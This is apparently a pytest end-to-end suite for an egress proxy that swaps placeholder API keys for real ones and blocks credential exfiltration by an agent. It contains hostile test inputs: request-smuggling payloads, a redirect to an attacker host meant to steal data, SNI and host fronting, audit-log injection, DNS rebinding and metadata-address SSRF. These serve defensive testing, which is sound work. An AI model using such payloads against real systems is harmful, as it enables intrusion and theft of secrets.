"""The sidecar end to end: a real `sandgate proxy` process, real TLS, real upstreams, real clients
(curl, requests, httpx, the openai SDK), in a private network namespace.

Every test states what an agent or an auditor would notice: what the upstream received, what the
agent got back, what the metrics and audit log say.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import ssl
import subprocess
import threading
import uuid
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
import requests

from proxy.metrics import EGRESS_REQUESTS, SECRET_BLOCKED, SECRET_REDACTIONS, SECRET_SWAPS
from tests.conftest import GITHUB, MAIN_POLICY, MAPS, OPENAI, needs_root, secret_env
from tests.support.clients import Reply, curl, raw_request, read_body, read_head, tunnel
from tests.support.leaks import encodings
from tests.support.listeners import ContactRecorder, DnsSink
from tests.support.proxyproc import ProxyProcess
from tests.support.upstream import Seen

pytestmark = needs_root

BEARER_PH = f"Authorization: Bearer {OPENAI.placeholder}"


def get(proxy: ProxyProcess, url: str, *args: str) -> Reply:
    return curl(proxy.url, proxy.ca, url, *args)


def last(seen: Seen) -> dict[str, object]:
    assert seen.requests, "the upstream received nothing"
    return seen.requests[-1]


def unique_path() -> str:
    return f"/t/{uuid.uuid4().hex}"


# -- the swap ---------------------------------------------------------------------------------


def test_swap_delivers_the_real_key_to_the_bound_upstream_only(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    path = unique_path()
    before = proxy.metric(SECRET_SWAPS, secret="openai", host="api.openai.com")
    reply = get(proxy, f"https://api.openai.com{path}", "-H", BEARER_PH)
    assert reply.status == 200
    seen = last(upstreams["api"])
    assert seen["path"] == path
    assert seen["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]
    # The echo body carries the real value back: the agent gets its placeholder instead.
    assert OPENAI.real not in reply.body and OPENAI.placeholder in reply.body
    assert proxy.metric(SECRET_SWAPS, secret="openai", host="api.openai.com") == before + 1
    record = next(r for r in reversed(proxy.audit()) if r["path"] == path)
    assert record["decision"] == "allowed" and record["secrets"] == ["openai"] and record["host"] == "api.openai.com"


def test_swap_works_for_requests_httpx_and_the_openai_sdk(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    proxies = {"https": proxy.url}
    r = requests.get("https://api.openai.com/v1/models", headers={"Authorization": f"Bearer {OPENAI.placeholder}"},
                     proxies=proxies, verify=str(proxy.ca), timeout=10)  # fmt: skip
    assert r.status_code == 200 and last(upstreams["api"])["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]

    with httpx.Client(proxy=proxy.url, verify=ssl.create_default_context(cafile=str(proxy.ca))) as client:
        r2 = client.post("https://api.openai.com/v1/x", headers={"x-api-key": OPENAI.placeholder}, json={"a": 1})
    assert r2.status_code == 200 and last(upstreams["api"])["headers"]["x-api-key"] == OPENAI.real  # type: ignore[index]

    import openai

    http_client = httpx.Client(proxy=proxy.url, verify=ssl.create_default_context(cafile=str(proxy.ca)))
    sdk = openai.OpenAI(
        api_key=OPENAI.placeholder, base_url="https://api.openai.com/v1", http_client=http_client, max_retries=0
    )
    answer = sdk.chat.completions.create(model="gpt-test", messages=[{"role": "user", "content": "hi"}])
    assert answer.choices[0].message.content == "hello from api"
    seen = last(upstreams["api"])
    assert seen["path"] == "/v1/chat/completions"
    assert seen["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]


def test_keep_alive_requests_share_one_upstream_connection(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    """The dial goes to the checked IP, yet the upstream connection is reused like any proxy's."""
    s = tunnel(proxy.port, "api.openai.com:443", "api.openai.com", proxy.ca)
    reader = s.makefile("rb")
    paths = [unique_path() for _ in range(3)]
    for path in paths:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: api.openai.com\r\n{BEARER_PH}\r\n\r\n".encode())
        status, headers = read_head(reader)
        assert status == 200
        read_body(reader, headers)
    s.close()
    peers = {tuple(r["peer"]) for r in upstreams["api"].requests if r["path"] in paths}
    assert len(peers) == 1


def test_basic_credentials_are_decoded_swapped_and_reencoded(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    """B10: git over HTTPS sends `x-access-token:<token>` as Basic auth."""
    token = base64.b64encode(f"x-access-token:{GITHUB.placeholder}".encode()).decode()
    assert (
        get(proxy, "https://files.example.org/repo.git/info/refs", "-H", f"Authorization: Basic {token}").status == 200
    )
    got = last(upstreams["files"])["headers"]["authorization"]  # type: ignore[index]
    assert base64.b64decode(got.split()[1]).decode() == f"x-access-token:{GITHUB.real}"


def test_query_swap_only_when_the_secret_opts_in(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    assert get(proxy, f"https://x.example.com/geo?key={MAPS.placeholder}&q=1").status == 200
    assert last(upstreams["x"])["path"] == f"/geo?key={MAPS.real}&q=1"
    # openai has query: false: its placeholder in the query of its bound host stays as it is (B02).
    assert get(proxy, f"https://api.openai.com/v1/x?api_key={OPENAI.placeholder}").status == 200
    assert last(upstreams["api"])["path"] == f"/v1/x?api_key={OPENAI.placeholder}"


# -- B: exfiltration ---------------------------------------------------------------------------


def test_b01_placeholder_to_allowed_but_unbound_host_is_refused(
    proxy: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    before = len(upstreams["echo"].requests)
    blocked = proxy.metric(SECRET_BLOCKED, secret="openai", reason="secret_not_bound")
    reply = get(proxy, "https://echo.example.com/collect", "-H", BEARER_PH)
    assert reply.status == 403 and reply.reason == "secret_not_bound"
    assert reply.json()["error"] == "sandgate_denied"
    assert len(upstreams["echo"].requests) == before, "the request was forwarded"
    assert proxy.metric(SECRET_BLOCKED, secret="openai", reason="secret_not_bound") == blocked + 1


@pytest.mark.parametrize(
    "where",
    [
        pytest.param(("-H", f"X-Note: {OPENAI.placeholder}"), id="other-header"),
        pytest.param(("-H", f"Cookie: k={OPENAI.placeholder}"), id="cookie"),
        pytest.param(("--data", f'{{"k":"{OPENAI.placeholder}"}}'), id="json-body"),
        pytest.param(("--data-binary", "@-", "-H", "Transfer-Encoding: chunked"), id="chunked-body"),
    ],
)
def test_b01_placeholder_anywhere_in_a_request_to_an_unbound_host_is_refused(
    proxy: ProxyProcess, upstreams: dict[str, Seen], where: tuple[str, ...]
) -> None:
    before = len(upstreams["echo"].requests)
    if "@-" in where:
        cmd = ["curl", "-sS", "--proxy", proxy.url, "--cacert", str(proxy.ca), "-o", "/dev/null", "-w", "%{http_code}", *where,
               "https://echo.example.com/upload"]  # fmt: skip
        out = subprocess.run(
            cmd,
            input=b"x" * 5000 + OPENAI.placeholder.encode() + b"y" * 5000,
            capture_output=True,
            timeout=20,
            check=False,
        )
        assert out.stdout.decode() != "200"  # the connection is torn down before the placeholder is forwarded
    else:
        reply = get(proxy, "https://echo.example.com/upload", *where)
        assert reply.status == 403 and reply.reason == "secret_not_bound"
    assert all(OPENAI.placeholder not in json.dumps(r) for r in upstreams["echo"].requests[before:])


def test_b02_placeholder_outside_the_slot_is_never_swapped(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    reply = get(proxy, f"https://api.openai.com/v1/{OPENAI.placeholder}", "-H", f"Cookie: s={OPENAI.placeholder}",
                "--data", f"k={OPENAI.placeholder}")  # fmt: skip
    assert reply.status == 200
    seen = json.dumps(last(upstreams["api"]))
    assert OPENAI.real not in seen and seen.count(OPENAI.placeholder) == 3


def test_b04_trace_never_carries_a_swapped_secret(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    reply = get(proxy, "https://api.openai.com/", "-X", "TRACE", "-H", BEARER_PH)
    assert reply.status == 405 and reply.reason == "method_not_allowed"
    assert OPENAI.real not in reply.body


def test_b08_no_swap_over_plaintext_or_another_port(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    plain = curl(proxy.url, None, "http://api.openai.com/v1/x", "-H", BEARER_PH)
    assert plain.status == 403 and plain.reason == "secret_not_bound"
    other_port = get(proxy, "https://api.openai.com:8443/v1/x", "-H", BEARER_PH)
    assert other_port.status == 403 and other_port.reason == "secret_not_bound"
    for name in ("api-plain", "api-8443"):
        assert all(OPENAI.real not in json.dumps(r) for r in upstreams[name].requests)


@pytest.mark.parametrize(
    "value",
    [
        f"Bearer {OPENAI.placeholder}X",
        f"Bearer x{OPENAI.placeholder}",
        f'Bearer "{OPENAI.placeholder}"',
        f"bearer {OPENAI.placeholder.lower()}",
    ],
    ids=["suffix", "prefix", "quoted", "lowercased"],
)
def test_b09_only_whole_token_placeholders_are_swapped(
    proxy: ProxyProcess, upstreams: dict[str, Seen], value: str
) -> None:
    reply = get(proxy, "https://api.openai.com/v1/x", "-H", f"Authorization: {value}")
    assert reply.status == 200
    assert last(upstreams["api"])["headers"]["authorization"] == value  # type: ignore[index]


def test_b11_duplicate_credential_headers_are_refused(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    before = len(upstreams["api"].requests)
    reply = get(proxy, "https://api.openai.com/v1/x", "-H", BEARER_PH, "-H", "authorization: Bearer other")
    assert reply.status == 400 and reply.reason == "malformed_request"
    assert len(upstreams["api"].requests) == before
    single = get(proxy, "https://api.openai.com/v1/x", "-H", f"AUTHORIZATION: Bearer {OPENAI.placeholder}")
    assert single.status == 200 and last(upstreams["api"])["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]


@pytest.mark.parametrize("variant", ["plain", "gzip"])
def test_b12_real_value_reflected_in_a_response_never_reaches_the_agent(proxy: ProxyProcess, variant: str) -> None:
    before = proxy.metric(SECRET_REDACTIONS, secret="openai")
    args = ["-H", BEARER_PH] + (["--compressed"] if variant == "gzip" else [])
    reply = get(proxy, "https://api.openai.com/reflect" + ("?gzip=1" if variant == "gzip" else ""), *args)
    assert reply.status == 200
    everything = reply.body + json.dumps(reply.headers)
    for form in encodings(OPENAI.real):
        assert form not in everything
    assert OPENAI.placeholder in reply.headers["www-authenticate"] and OPENAI.placeholder in reply.headers["location"]
    assert json.loads(reply.body)["error"] == f"Incorrect API key provided: {OPENAI.placeholder}"
    assert proxy.metric(SECRET_REDACTIONS, secret="openai") > before


def _large_reflection_is_scrubbed(proxy: ProxyProcess) -> None:
    reply = get(proxy, "https://api.openai.com/reflect?pad=70000", "-H", BEARER_PH)
    assert reply.status == 200 and len(reply.body) > 70000
    for form in encodings(OPENAI.real):
        assert form not in reply.body
    assert json.loads(reply.body)["error"] == f"Incorrect API key provided: {OPENAI.placeholder}"


def test_b12_real_value_reflected_in_a_large_response_never_reaches_the_agent(proxy: ProxyProcess) -> None:
    """A body of 64 KiB and more: the scan asks its prefilter first, and it says yes."""
    _large_reflection_is_scrubbed(proxy)


def test_without_the_scan_prefilter_the_sidecar_says_so_and_scrubs_the_same(
    make_proxy: Callable[..., ProxyProcess], tmp_path: Path
) -> None:
    """A platform Hyperscan has no wheel for: a warning at start, the automaton alone."""
    (tmp_path / "hyperscan.py").write_text('raise ImportError("no wheel for this platform (a test)")\n')
    blocked = make_proxy(
        MAIN_POLICY, env={**secret_env(), "PYTHONPATH": f"{tmp_path}:{os.environ.get('PYTHONPATH', '')}"}
    )
    try:
        warnings = [json.loads(line) for line in blocked.stderr().splitlines() if "scan_prefilter_unavailable" in line]
        assert warnings and "no wheel for this platform" in warnings[0]["detail"]
        _large_reflection_is_scrubbed(blocked)
    finally:
        blocked.stop()


def test_b12_real_value_split_across_sse_chunks_is_scrubbed(proxy: ProxyProcess) -> None:
    reply = get(proxy, "https://api.openai.com/sse?leak=1", "-N", "-H", BEARER_PH)
    assert reply.status == 200
    assert OPENAI.real not in reply.body and f"data: {OPENAI.placeholder}" in reply.body
    assert reply.body.rstrip().endswith("data: [DONE]")


def test_sse_stays_streaming_through_the_proxy(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    """The upstream holds the stream after event 0 until the client has read event 0 through the
    proxy: a buffering proxy would deadlock here (and the read times out)."""
    thread: UpstreamThreadLike = upstreams["_thread"]  # type: ignore[assignment]
    gate = threading.Event()
    thread.gates["g1"] = gate
    s = tunnel(proxy.port, "api.openai.com:443", "api.openai.com", proxy.ca)
    s.sendall(
        f"GET /sse?n=3&gate=g1 HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer {OPENAI.placeholder}\r\n\r\n".encode()
    )
    s.settimeout(5)
    received = b""
    while b"t0" not in received:
        received += s.recv(4096)
    gate.set()
    while b"[DONE]" not in received:
        received += s.recv(4096)
    s.close()
    assert b'"t2"' in received


class UpstreamThreadLike:
    gates: dict[str, threading.Event]


def test_b14_upstream_tls_failure_is_a_502_that_echoes_no_request_data(proxy: ProxyProcess) -> None:
    """The upstream's certificate is from a CA nobody trusts: verified upstream TLS refuses it."""
    reply = get(proxy, "https://badtls.example.com/private-path", "-H", "X-Token: tok-123456789")
    assert reply.status == 502
    assert "tok-123456789" not in reply.body and "private-path" not in reply.body


def test_b16_metrics_carry_no_value_no_placeholder_no_raw_host(proxy: ProxyProcess) -> None:
    get(proxy, "https://evil-for-metrics.test/secret-path?q=1")
    body = proxy.metrics()
    for s in (OPENAI, GITHUB, MAPS):
        assert s.placeholder not in body
        assert all(form not in body for form in encodings(s.real))
    assert "evil-for-metrics" not in body and "secret-path" not in body


def test_b19_smuggling_shapes_are_refused_before_any_upstream_byte(
    proxy: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    before = len(upstreams["api"].requests)
    for payload in (
        b"POST /v1/x HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/x HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
        b"POST /v1/x HTTP/1.1\r\nHost: api.openai.com\r\nTransfer-Encoding: xchunked\r\n\r\n",
    ):
        s = tunnel(proxy.port, "api.openai.com:443", "api.openai.com", proxy.ca)
        reply = raw_request(s, payload)
        assert reply.status in (0, 400)
    assert len(upstreams["api"].requests) == before


def test_b20_h2c_upgrade_is_refused(proxy: ProxyProcess) -> None:
    reply = curl(proxy.url, None, "http://api.openai.com/v1/x", "-H", "Upgrade: h2c", "-H", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
                 "-H", "Connection: Upgrade, HTTP2-Settings")  # fmt: skip
    assert reply.status == 403 and reply.reason == "protocol_not_allowed"


# -- A: allowlist and authority ------------------------------------------------------------------


def test_denied_host_gets_403_and_no_dns_query_or_connection(
    proxy: ProxyProcess, attacker: ContactRecorder, dns: DnsSink
) -> None:
    """C05 + NO-CONTACT: the name is decided before any lookup; the attacker sees nothing."""
    label = uuid.uuid4().hex[:20]
    before_contacts = attacker.count
    reply = get(proxy, f"https://{label}.attacker.test/")
    assert reply.status == 403 and reply.reason == "host_not_allowed"
    plain = curl(proxy.url, None, "http://attacker.test/")
    assert plain.status == 403 and plain.reason == "host_not_allowed"
    assert not dns.asked_about(label)
    assert attacker.count == before_contacts


def test_a01_case_is_canonicalised_for_policy_and_swap(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    reply = get(proxy, "https://API.OpenAI.COM/v1/x", "-H", BEARER_PH)
    assert reply.status == 200
    seen = last(upstreams["api"])
    assert seen["headers"]["host"] == "api.openai.com"  # type: ignore[index]
    assert seen["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]


def test_a02_a_trailing_dot_is_the_same_host_everywhere(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    reply = get(proxy, "https://api.openai.com./v1/x", "-H", BEARER_PH, "--resolve", "api.openai.com.:443:127.0.0.2")
    assert reply.status == 200
    assert last(upstreams["api"])["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]


@pytest.mark.parametrize("port", [22, 8080])
def test_a07_unlisted_ports_are_denied(proxy: ProxyProcess, port: int) -> None:
    reply = get(proxy, f"https://api.openai.com:{port}/")
    assert reply.status == 403 and reply.reason == "port_not_allowed"


@pytest.mark.parametrize("ip", ["127.0.0.2", "2130706433", "[::1]", "169.254.169.254"])
def test_a08_ip_destinations_are_denied_unless_listed(proxy: ProxyProcess, ip: str) -> None:
    reply = get(proxy, f"https://{ip}/")
    assert reply.status in (400, 403) and reply.reason in ("host_not_allowed", "malformed_request")


@pytest.mark.parametrize("name", ["internal.example.com", "metadata.example.com"])
def test_a09_allowed_names_resolving_to_private_addresses_are_not_dialled(proxy: ProxyProcess, name: str) -> None:
    reply = get(proxy, f"https://{name}/")
    assert reply.status == 403 and reply.reason == "private_address"


@pytest.mark.parametrize(
    ("connect", "sni", "host", "reason"),
    [
        ("files.example.org:443", "files.example.org", "attacker.test", "authority_mismatch"),
        ("files.example.org:443", "echo.example.com", "files.example.org", "authority_mismatch"),
        ("files.example.org:443", "files.example.org", "echo.example.com", "authority_mismatch"),
        ("files.example.org:443", "files.example.org", "files.example.org:8443", "authority_mismatch"),
        ("files.example.org:443", None, "files.example.org", "protocol_not_allowed"),
    ],
    ids=["host-differs", "sni-differs", "fronting-to-allowed", "host-port-differs", "no-sni"],
)
def test_a11_a12_connect_sni_and_host_must_agree(proxy: ProxyProcess, upstreams: dict[str, Seen], connect: str, sni: str | None,
                                                 host: str, reason: str) -> None:  # fmt: skip
    before = len(upstreams["files"].requests)
    s = tunnel(proxy.port, connect, sni, proxy.ca)
    token = base64.b64encode(f"x:{GITHUB.placeholder}".encode()).decode()
    reply = raw_request(
        s, f"GET / HTTP/1.1\r\nHost: {host}\r\nAuthorization: Basic {token}\r\nConnection: close\r\n\r\n".encode()
    )
    assert reply.status == 403 and reply.reason == reason
    assert len(upstreams["files"].requests) == before


@pytest.mark.parametrize(
    "host_lines",
    [
        "Host: api.openai.com\r\nHost: attacker.test\r\n",
        "Host: api.openai.com@attacker.test\r\n",
        "Host: api.openai.com, attacker.test\r\n",
        "Host: api%2eopenai.com\r\n",
        "Host: api..openai.com\r\n",
        "Host: \r\n",
        "",
    ],
    ids=["two-hosts", "userinfo", "list", "percent", "empty-label", "empty", "missing"],
)
def test_a15_malformed_host_headers_are_400(proxy: ProxyProcess, upstreams: dict[str, Seen], host_lines: str) -> None:
    before = len(upstreams["api"].requests)
    s = tunnel(proxy.port, "api.openai.com:443", "api.openai.com", proxy.ca)
    reply = raw_request(s, f"GET /v1/x HTTP/1.1\r\n{host_lines}{BEARER_PH}\r\nConnection: close\r\n\r\n".encode())
    assert reply.status == 400
    assert len(upstreams["api"].requests) == before


def test_a17_routing_headers_are_stripped_and_reserved_response_headers_dropped(
    proxy: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    reply = get(proxy, "https://api.openai.com/reflect", "-H", BEARER_PH, "-H", "X-Forwarded-Host: attacker.test",
                "-H", "Forwarded: host=attacker.test", "-H", "X-Original-URL: /admin", "-H", "X-Sandgate-Reason: allowed")  # fmt: skip
    seen = last(upstreams["api"])["headers"]
    for h in ("x-forwarded-host", "forwarded", "x-original-url", "x-sandgate-reason"):
        assert h not in seen  # type: ignore[operator]
    assert "x-sandgate-reason" not in reply.headers  # the upstream forged one


def test_a18_redirects_are_passed_through_never_followed(proxy: ProxyProcess, attacker: ContactRecorder) -> None:
    before = attacker.count
    reply = get(proxy, "https://api.openai.com/redirect?to=https://attacker.test/steal", "-H", BEARER_PH)
    assert reply.status == 302 and reply.headers["location"] == "https://attacker.test/steal"
    assert attacker.count == before


def test_c11_no_onboarding_app_or_other_in_process_endpoints(proxy: ProxyProcess) -> None:
    assert curl(proxy.url, None, "http://mitm.it/").reason == "host_not_allowed"


def test_non_http_bytes_on_the_listener_are_closed(proxy: ProxyProcess) -> None:
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as s:
        s.sendall(b"\x00\x01SSH-2.0-OpenSSH_9.0\r\n\x00\xff\r\n\r\n")
        data = s.recv(4096)
        while (more := s.recv(4096)) != b"":
            data += more
    assert not data or data.startswith(b"HTTP/1.1 400")


# -- F: limits -------------------------------------------------------------------------------------


def test_f01_oversized_request_bodies_get_413(make_proxy, upstreams: dict[str, Seen], tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from tests.conftest import MAIN_POLICY

    small = make_proxy(MAIN_POLICY, "--max-request-body", "64k")
    before = len(upstreams["echo"].requests)
    big = tmp_path / "big"
    big.write_bytes(b"x" * 300_000)
    declared = curl(small.url, small.ca, "https://echo.example.com/up", "--data-binary", f"@{big}")
    assert declared.status == 413 and declared.reason == "limit_exceeded"
    chunked = curl(
        small.url,
        small.ca,
        "https://echo.example.com/up",
        "--data-binary",
        f"@{big}",
        "-H",
        "Transfer-Encoding: chunked",
    )
    assert chunked.status in (0, 413)
    assert all(len(r["body"]) < 300_000 for r in upstreams["echo"].requests[before:])
    assert small.metric(EGRESS_REQUESTS, decision="denied", reason="limit_exceeded") >= 2


def test_f05_oversized_headers_get_431(proxy: ProxyProcess) -> None:
    before = proxy.metric(EGRESS_REQUESTS, decision="denied", reason="limit_exceeded")
    s = tunnel(proxy.port, "api.openai.com:443", "api.openai.com", proxy.ca)
    reply = raw_request(s, b"GET / HTTP/1.1\r\nHost: api.openai.com\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n")
    assert reply.status == 431 and reply.reason == "limit_exceeded"
    assert proxy.metric(EGRESS_REQUESTS, decision="denied", reason="limit_exceeded") == before + 1


def test_f04_connections_over_the_cap_are_refused_and_counted(make_proxy) -> None:  # type: ignore[no-untyped-def]
    """Over --max-connections an agent can tell a limit from a crash: 503 limit_exceeded, then closed."""
    from tests.conftest import MAIN_POLICY

    capped = make_proxy(MAIN_POLICY, "--max-connections", "2")
    held = [socket.create_connection(("127.0.0.1", capped.port)) for _ in range(2)]
    try:
        with socket.create_connection(("127.0.0.1", capped.port), timeout=5) as third:
            third.settimeout(5)
            third.sendall(b"GET http://api.openai.com/ HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
            answer = b""
            while chunk := third.recv(65536):  # read to the end: the proxy closes after its answer
                answer += chunk
        assert answer.startswith(b"HTTP/1.1 503") and b"x-sandgate-reason: limit_exceeded" in answer.lower()
        assert capped.metric(EGRESS_REQUESTS, decision="denied", reason="limit_exceeded") == 1
    finally:
        for h in held:
            h.close()


def test_f09_denied_hosts_do_not_grow_the_metrics(proxy: ProxyProcess) -> None:
    get(proxy, "https://warmup-f09.test/")
    size = len([ln for ln in proxy.metrics().splitlines() if ln.startswith("sandgate_")])
    for _ in range(20):
        get(proxy, f"https://{uuid.uuid4().hex}.test/{uuid.uuid4().hex}")
    assert len([ln for ln in proxy.metrics().splitlines() if ln.startswith("sandgate_")]) == size


def test_f10_hostile_names_cannot_forge_audit_lines(proxy: ProxyProcess) -> None:
    n = len(proxy.audit_path.read_text().splitlines())
    s = tunnel(proxy.port, "api.openai.com:443", "api.openai.com", proxy.ca)
    reply = raw_request(s, b'GET / HTTP/1.1\r\nHost: x"}\x1b[2J{"decision":"allowed\r\nConnection: close\r\n\r\n')
    assert reply.status == 400
    lines = proxy.audit_path.read_text().splitlines()[n:]
    assert len(lines) == 1, lines
    record = json.loads(lines[0])
    assert record["decision"] == "denied" and record["reason"] == "malformed_request"


def test_an_answer_reaches_the_agent_after_its_audit_record_is_written(proxy: ProxyProcess) -> None:
    """Records are written in bursts (once per round of the event loop), but never after the answer
    they describe: an auditor reading the log when the agent has its answer finds the record."""
    for i in range(40):
        n = len(proxy.audit_path.read_text().splitlines())
        with tunnel(proxy.port, "api.openai.com:443", "api.openai.com", proxy.ca) as s:
            reply = raw_request(s, b"GET /%d HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n" % i)
        assert reply.status == 403
        assert len(proxy.audit_path.read_text().splitlines()) == n + 1, i


def test_c11_metrics_are_only_on_the_metrics_port(proxy: ProxyProcess) -> None:
    assert f"metrics=127.0.0.1:{proxy.metrics_port}" in proxy.ready_line
    assert proxy.metrics().startswith("#")


async def test_b20_websocket_swaps_only_in_the_handshake_and_keeps_no_history(
    proxy: ProxyProcess, upstreams: dict[str, Seen]
) -> None:
    """B20(a) + F07: frames are never touched (a placeholder in a frame stays a placeholder), and the
    socket keeps working over many messages."""
    import aiohttp

    ctx = ssl.create_default_context(cafile=str(proxy.ca))
    headers = {"Authorization": f"Bearer {OPENAI.placeholder}"}
    async with (
        aiohttp.ClientSession() as session,
        session.ws_connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ctx, headers=headers) as ws,
    ):
        await ws.send_str(f"frame with {OPENAI.placeholder}")
        first = await ws.receive_str()
        for i in range(300):
            await ws.send_str(f"m{i}")
            assert await ws.receive_str() == f"echo:m{i}"
    handshake = next(r for r in reversed(upstreams["api"].requests) if r["path"] == "/ws" and r["method"] == "GET")
    assert handshake["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]
    frame = next(r for r in upstreams["api"].requests if r["method"] == "WS" and "frame with" in r["body"])
    assert frame["body"] == f"frame with {OPENAI.placeholder}"
    assert first == f"echo:frame with {OPENAI.placeholder}"


def test_c03_alt_svc_is_stripped_so_clients_never_try_quic(proxy: ProxyProcess) -> None:
    reply = get(proxy, "https://api.openai.com/altsvc")
    assert reply.status == 200 and "alt-svc" not in reply.headers


def test_a10_every_new_connection_resolves_and_checks_again(
    proxy: ProxyProcess, upstreams: dict[str, Seen], dns: DnsSink
) -> None:
    """DNS rebinding: x.example.com first resolves to an allowed address, then to the metadata
    service. No allow verdict outlives the address it was checked for."""
    assert get(proxy, "https://x.example.com/before").status == 200
    before = dns.hosts["x.example.com"]
    try:
        dns.hosts["x.example.com"] = "169.254.169.254"
        reply = get(proxy, "https://x.example.com/after")
        assert reply.status == 403 and reply.reason == "private_address"
    finally:
        dns.hosts["x.example.com"] = before
    assert all(r["path"] != "/after" for r in upstreams["x"].requests)


def test_the_proxy_never_resolves_through_etc_hosts(
    proxy: ProxyProcess, upstreams: dict[str, Seen], attacker: ContactRecorder
) -> None:
    """issue: the kubelet mounts one /etc/hosts read-write into every container of the pod; an agent
    that points a bound host at its own server there must not move where the proxy dials."""
    hosts = Path("/etc/hosts")
    original = hosts.read_text()
    contacts = attacker.count
    try:
        hosts.write_text(original.replace("127.0.0.2 api.openai.com", "127.0.0.6 api.openai.com"))
        reply = get(proxy, "https://api.openai.com/v1/hosts-file", "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    finally:
        hosts.write_text(original)
    assert reply.status == 200 and attacker.count == contacts
    assert last(upstreams["api"])["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]


@pytest.mark.parametrize("target", ["127.0.0.1", "localhost"])
def test_a22_the_proxy_cannot_be_pointed_at_itself(proxy: ProxyProcess, target: str) -> None:
    reply = get(proxy, f"https://{target}:{proxy.port}/")
    assert reply.status == 403 and reply.reason in ("host_not_allowed", "port_not_allowed")


def test_b15_nothing_the_proxy_wrote_holds_a_real_value(proxy: ProxyProcess) -> None:
    """After swaps, reflections and denials in this session: stdout, stderr, audit and metrics."""
    get(proxy, "https://api.openai.com/reflect", "-H", BEARER_PH)
    get(proxy, "https://echo.example.com/", "-H", BEARER_PH)
    texts = {**proxy.outputs(), "metrics": proxy.metrics()}
    from tests.support.leaks import find_leaks

    assert {where: find_leaks(text) for where, text in texts.items()} == {where: [] for where in texts}


@pytest.mark.parametrize(
    "where",
    [
        pytest.param(("-H", f"X-Debug: {OPENAI.real}"), id="header"),
        pytest.param(
            ("-H", f"Authorization: Bearer {base64.b64encode(OPENAI.real.encode()).decode()}"), id="base64-header"
        ),
        pytest.param(
            ("-H", f"Authorization: Basic {base64.b64encode(f'x:{OPENAI.real}'.encode()).decode()}"),
            id="basic-credentials",
        ),
        pytest.param(("--data", f"leak={OPENAI.real}"), id="body"),
    ],
)
def test_b18_a_real_value_sent_outbound_is_refused_to_any_host(
    proxy: ProxyProcess, upstreams: dict[str, Seen], where: tuple[str, ...]
) -> None:
    """Even toward the bound host, and even outside any slot: the agent should never hold R."""
    before = {name: len(upstreams[name].requests) for name in ("api", "echo")}
    for url in ("https://api.openai.com/v1/x", "https://echo.example.com/x"):
        reply = get(proxy, url, *where)
        assert reply.status == 403 and reply.reason == "secret_value_outbound"
    assert {name: len(upstreams[name].requests) for name in ("api", "echo")} == before
    assert OPENAI.real not in proxy.stderr()
    assert '"event": "secret_value_outbound", "secret": "openai"' in proxy.stderr()
    assert proxy.metric(SECRET_BLOCKED, secret="openai", reason="secret_value_outbound") >= 2


def test_b18_a_real_value_in_a_streamed_body_never_leaves(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    before = len(upstreams["echo"].requests)
    cmd = ["curl", "-sS", "--proxy", proxy.url, "--cacert", str(proxy.ca), "-o", "/dev/null", "-w", "%{http_code}", "--data-binary", "@-",
           "-H", "Transfer-Encoding: chunked", "https://echo.example.com/upload"]  # fmt: skip
    out = subprocess.run(
        cmd, input=b"a" * 3000 + OPENAI.real.encode() + b"b" * 3000, capture_output=True, timeout=20, check=False
    )
    assert out.stdout.decode() != "200"
    assert all(OPENAI.real not in json.dumps(r) for r in upstreams["echo"].requests[before:])


def test_f03_a_slowloris_head_gets_408_and_a_silent_connection_is_closed(make_proxy) -> None:  # type: ignore[no-untyped-def]
    import time

    from tests.conftest import MAIN_POLICY

    p = make_proxy(MAIN_POLICY, "--header-timeout", "1", "--idle-timeout", "2")
    with socket.create_connection(("127.0.0.1", p.port), timeout=10) as s:
        s.sendall(b"GET http://api.openai.com/ HTTP/1.1\r\nHost: api.openai.com\r\nX-Slow: ")
        reply = b""
        for _ in range(25):  # one byte every 0.3 s: never idle, never done
            time.sleep(0.3)
            try:
                s.sendall(b"a")
                s.settimeout(0.05)
                chunk = s.recv(4096)
            except TimeoutError:
                continue
            except OSError:
                break
            reply += chunk
            if not chunk or reply.startswith(b"HTTP/1.1 408"):
                break
        assert reply.startswith(b"HTTP/1.1 408"), reply[:100]
